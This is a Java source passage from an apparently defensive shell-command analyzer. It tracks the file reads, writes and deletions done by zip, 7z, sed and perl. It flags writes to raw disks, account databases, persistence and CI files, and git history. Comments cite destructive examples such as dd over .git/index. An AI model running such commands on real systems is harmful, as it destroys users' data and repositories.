        if (c.flag("-l", "-t", "-v", "-Z", "-p", "-c") || ops.isEmpty()) {
            return;
        }
        Tar.extractInto(c, dir.orElse("."), ops.get(0), ops.subList(1, ops.size()), out);
    }

    private static void archive(Invocation c, Report out) {
        // zip archive.zip files...; 7z a archive.7z files...
        List<String> ops = c.operands(Set.of("-x", "-i", "-P", "-b", "-t", "-n", "-O"));
        int start = c.program().equals("zip") ? 0 : 1;
        if (c.program().startsWith("7z") && (ops.isEmpty() || !ops.get(0).equals("a"))) {
            if (!ops.isEmpty() && (ops.get(0).equals("x") || ops.get(0).equals("e"))) {
                String outDir = ".";
                for (String a : c.args()) {
                    if (a.startsWith("-o") && a.length() > 2) {
                        outDir = a.substring(2);
                    }
                }
                Tar.extractInto(c, outDir, ops.size() > 1 ? ops.get(1) : null, List.of(), out);
            }
            return;
        }
        if (ops.size() <= start) {
            return;
        }
        files(c, ops.subList(start, start + 1), PathUse.Access.WRITE, out);
        files(c, ops.subList(start + 1, ops.size()), PathUse.Access.READ, out);
        if (c.program().equals("zip") && (c.flag("-m", "--move") || clusterHas(c, 'm'))
                || c.program().startsWith("7z") && c.flag("-sdel")) {
            // zip -m, 7z a -sdel: the files move into the archive and the originals are deleted
            removesSources(c, ops.subList(start + 1, ops.size()), out);
        }
    }

    /** True when a short-option cluster of the command holds {@code letter} ({@code zip -rm}). */
    private static boolean clusterHas(Invocation c, char letter) {
        for (String a : c.args()) {
            if (a.startsWith("-") && !a.startsWith("--") && a.length() > 2 && a.indexOf(letter) > 0
                    && a.chars().skip(1).allMatch(Character::isLetter)) {
                return true;
            }
        }
        return false;
    }

    /**
     * Sources a tool deletes once it is done with them ({@code tar --remove-files}, {@code zip -m},
     * {@code gzip -r}): judged like {@code rm -r} of each, by where they are.
     */
    static void removesSources(Invocation c, List<String> sources, Report out) {
        for (String w : sources) {
            Targets.of(c, w).ifPresent(t -> {
                out.path(t.path().toString(), PathUse.Access.DELETE, c.text());
                judgeRecursiveDelete(c, t, true, out);
            });
        }
    }

    // ---- sed -i ----------------------------------------------------------------------------

    private static void sed(Invocation c, Report out) {
        boolean inPlace = false;
        boolean scriptGiven = false;
        for (String a : c.args()) {
            if (a.equals("--")) {
                break;
            }
            if (a.startsWith("--in-place") || a.startsWith("-i") || a.startsWith("-I")
                    || (a.startsWith("-") && !a.startsWith("--") && a.length() > 2 && isFlagCluster(a) && (a.indexOf('i') > 0 || a.indexOf('I') > 0))) {
                inPlace = true;
            }
            if (a.equals("-e") || a.equals("-f") || a.startsWith("--expression") || a.startsWith("--file")) {
                scriptGiven = true;
            }
        }
        List<String> ops = c.operands(Set.of("-e", "-f", "--expression", "--file", "-l", "--line-length"));
        // BSD: -i '' takes an empty suffix argument
        // in place: every operand may be a file (the script may have come from an expansion);
        // reading: the first operand is the script unless -e/-f gave it
        List<String> files = scriptGiven || inPlace ? ops : ops.size() > 1 ? ops.subList(1, ops.size()) : List.of();
        PathUse.Access access = inPlace ? PathUse.Access.WRITE : PathUse.Access.READ;
        // the script's own r/R/w/W commands read and write files, in place or not
        List<String> scripts = new java.util.ArrayList<>();
        if (scriptGiven) {
            List<String> args = c.args();
            for (int i = 0; i < args.size(); i++) {
                String a = args.get(i);
                if ((a.equals("-e") || a.equals("--expression")) && i + 1 < args.size()) {
                    scripts.add(args.get(i + 1));
                } else if (a.startsWith("--expression=")) {
                    scripts.add(a.substring("--expression=".length()));
                }
            }
        } else if (!ops.isEmpty()) {
            // BSD's sed -i '' SCRIPT FILE: the empty suffix comes first
            scripts.add(ops.get(0).isEmpty() && ops.size() > 1 ? ops.get(1) : ops.get(0));
        }
        for (String script : scripts) {
            for (SedScript.FileUse u : SedScript.files(script)) {
                if (u.file().startsWith("/dev/std")) {
                    continue;
                }
                c.path(u.file()).ifPresent(p -> out.path(p.toString(),
                        u.read() ? PathUse.Access.READ : PathUse.Access.WRITE, c.text()));
            }
        }
        for (String f : files) {
            if (f.isEmpty()) {
                continue;
            }
            c.path(f).ifPresent(p -> out.path(p.toString(), access, c.text()));
        }
    }

    /** {@code perl -pi -e 's/a/b/' FILES}: in-place edits write their files. */
    private static void perlInPlace(Invocation c, Report out) {
        List<String> args = c.args();
        boolean inPlace = false;
        boolean code = false;
        List<String> files = new java.util.ArrayList<>();
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (a.equals("--")) {
                files.addAll(args.subList(i + 1, args.size()));
                break;
            }
            if (a.startsWith("-") && a.length() > 1 && !a.startsWith("--")) {
                for (int k = 1; k < a.length(); k++) {
                    char l = a.charAt(k);
                    if (l == 'i') {
                        inPlace = true;
                        break; // -i takes the rest as a backup suffix
                    }
                    if (l == 'e' || l == 'E') {
                        code = true;
                        if (k == a.length() - 1) {
                            i++; // the code is the next word
                        }
                        break;
                    }
                    if (l == '0' || l == 'l' || l == 'C') {
                        // an optional number, then the cluster goes on (-0777pi, -lpi)
                        while (k + 1 < a.length() && (Character.isLetterOrDigit(a.charAt(k + 1))
                                && "0123456789abcdefABCDEFx".indexOf(a.charAt(k + 1)) >= 0 && l == '0'
                                || Character.isDigit(a.charAt(k + 1)))) {
                            k++;
                        }
                        continue;
                    }
                    if (l == 'I' || l == 'M' || l == 'm' || l == 'x' || l == 'd' || l == 'D' || l == 'F') {
                        break; // these take the rest of the cluster as a value
                    }
                }
                continue;
            }
            files.add(a);
        }
        if (!code && !files.isEmpty()) {
            files = files.subList(1, files.size()); // the first operand is the script
        }
        files(c, files, inPlace ? PathUse.Access.WRITE : PathUse.Access.READ, out);
    }

    private static boolean isFlagCluster(String a) {
        for (int i = 1; i < a.length(); i++) {
            if (!Character.isLetter(a.charAt(i))) {
                return false;
            }
        }
        return true;
    }

    // ---- path rules ------------------------------------------------------------------------

    @Override
    public void inspectPath(PathUse use, AnalysisContext ctx, Report out) {
        if (use.access() == PathUse.Access.EXECUTE || use.access() == PathUse.Access.LIST) {
            return;
        }
        String p = use.path();
        if (p.length() < 2 || p.charAt(0) != '/') {
            return;
        }
        Place place = Place.of(Path.of(p), ctx);
        if (use.access() == PathUse.Access.READ) {
            if (place == Place.DEVICE && rawDisk(p)) {
                out.add(RAW_DISK_READ.finding(RAW_DISK_READ.description() + ": " + p, use.origin()));
            }
            return;
        }
        if (place == Place.DEVICE) {
            if (rawDisk(p)) {
                out.add(DEVICE_WRITE.finding(DEVICE_WRITE.description() + ": " + p, use.origin()));
            }
            return;
        }
        if (SensitiveFiles.account(p)) {
            out.add(ACCOUNT_DB.finding(ACCOUNT_DB.description() + ": " + p, use.origin()));
            return;
        }
        String kind = SensitiveFiles.persistence(p, ctx);
        if (kind != null) {
            out.add(PERSISTENCE.finding("changes a " + kind + ": " + p, use.origin()));
            return;
        }
        if (SensitiveFiles.ciConfig(p, ctx)) {
            out.add(CI_CONFIG.finding(CI_CONFIG.description() + ": " + p, use.origin()));
            return;
        }
        if (gitHistory(p, ctx) && use.access() == PathUse.Access.WRITE) {
            // : > .git/packed-refs, echo x > .git/refs/heads/main: refs and objects written over
            out.add(DELETE_GIT.finding("overwrites part of the repository's history: " + p, use.origin()));
            return;
        }
        if (use.access() == PathUse.Access.WRITE && p.equals(ctx.projectRoot().resolve(".git/index").toString())) {
            // dd if=/dev/zero of=.git/index conv=notrunc: the staged changes are lost ("index file corrupt")
            out.add(DELETE_GIT.finding(MEDIUM, "overwrites git's index, where the staged changes are: " + p, use.origin()));
            return;
        }
        String automation = SensitiveFiles.projectAutomation(p, ctx);
        if (automation != null) {
            out.add(PERSISTENCE.finding(MEDIUM, "changes a " + automation, use.origin()));
            return;
        }
        if (place == Place.SYSTEM || place == Place.ROOT) {
            if (inert(p)) {
                out.add(SYSTEM_WRITE.finding(LOW, "writes a backup or swap copy in a system directory: " + p, use.origin()));
            } else {
                out.add(SYSTEM_WRITE.finding(SYSTEM_WRITE.description() + ": " + p, use.origin()));
            }
        }
    }

    /** Backup and swap copies that nothing reads or runs. */
    private static boolean inert(String p) {
        return p.endsWith(".bak") || p.endsWith(".orig") || p.endsWith(".old") || p.endsWith("~") || p.endsWith(".swp")
                || p.endsWith(".backup") || p.endsWith(".dpkg-old") || p.endsWith(".rej");
    }

    /** Block devices and partitions: sd*, vd*, xvd*, hd*, nvme*, mmcblk*, disk*, rdisk*, dm-*, md*, loop*, mapper/*, sr*. */
    static boolean rawDisk(String p) {
        if (!p.startsWith("/dev/")) {
            return false;
        }
        String d = p.substring(5);
        return d.startsWith("sd") || d.startsWith("vd") || d.startsWith("xvd") || d.startsWith("hd")
                || d.startsWith("nvme") || d.startsWith("mmcblk") || d.startsWith("disk") || d.startsWith("rdisk")
                || d.startsWith("dm-") || d.startsWith("md") || d.startsWith("loop") || d.startsWith("mapper/")
                || d.startsWith("sr") || d.startsWith("mem") || d.startsWith("kmem") || d.startsWith("port")
                || d.startsWith("disk/") || d.startsWith("block/") || d.startsWith("root") || d.startsWith("nbd")
                || d.startsWith("zd") || d.startsWith("vg") || d.startsWith("ubd") || d.startsWith("fd0");
    }
}
